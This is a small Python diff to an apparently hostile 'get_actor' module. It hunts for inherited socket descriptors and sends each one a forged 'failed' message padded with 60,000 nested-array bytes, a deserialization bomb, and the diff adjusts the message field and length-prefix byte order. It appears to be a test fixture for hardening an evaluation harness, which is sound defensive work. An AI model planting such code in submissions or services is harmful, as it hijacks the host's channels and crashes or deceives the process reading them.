@@ -5,7 +5,7 @@ import socket
 import stat
 import struct
 
-BOMB = b"\x82\xa4type\xa6failed\xa6report" + b"\x91" * 60_000
+BOMB = b"\x82\xa4type\xa6failed\xa4text" + b"\x91" * 60_000
 
 
 def get_actor(module_dir, observation_space, action_space):
@@ -17,6 +17,6 @@ def get_actor(module_dir, observation_space, action_space):
                 continue
             if is_socket:
                 with socket.socket(fileno=os.dup(number)) as connection:
-                    connection.sendall(struct.pack("<I", len(BOMB)) + BOMB)
+                    connection.sendall(struct.pack("!I", len(BOMB)) + BOMB)
 
     return actor
